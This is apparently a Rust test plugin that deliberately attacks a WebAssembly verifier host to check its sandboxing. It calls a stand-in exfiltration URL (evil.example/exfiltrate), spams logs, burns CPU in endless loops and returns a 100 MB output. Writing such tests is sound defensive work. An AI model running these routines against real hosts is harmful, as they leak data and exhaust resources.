//! A hostile plugin for the host's tests: `plugin_params.attack` (verify
//! mode) or the task's data (re-execution) picks what it does to the host.
//! Every attack must end undecided, with its cause, within the deadline.

wit_bindgen::generate!({ path: "wit", world: "attacks", generate_all });

use std::hint::black_box;

use taskproof::verifier::host::{http_get, keccak256, log};

struct Attacks;

#[path = "../../attack.rs"]
mod attack;
use attack::attack;

impl Guest for Attacks {
    fn verify(params: String, task: Task) -> Verdict {
        let mut name = params
            .split("\"attack\":\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap_or("")
            .to_owned();
        // `attack = "data"`: each task's proofOfTask names the attack, so
        // one task definition (and one kept instance) can see several.
        if name == "data" {
            name = task.proof_of_task;
        }
        match name.as_str() {
            "http" => match http_get("https://evil.example/exfiltrate") {
                // A plugin that turns its own failed fetch into a reject vote:
                // the host must make it undecided.
                Err(_) => Verdict::Invalid("the source did not answer".into()),
                Ok(_) => Verdict::Valid,
            },
            "log" => loop {
                log("spam");
            },
            "host-loop" => loop {
                black_box(keccak256(&[0u8; 1024]));
            },
            "output" => Verdict::Invalid("x".repeat(100 << 20)),
            _ => match attack(&name) {
                Ok(_) => Verdict::Valid,
                Err(e) => Verdict::Undecided(e),
            },
        }
    }

    fn execute(input: Vec<u8>) -> Result<Vec<u8>, String> {
        attack(core::str::from_utf8(&input).unwrap_or(""))
    }
}

export!(Attacks);
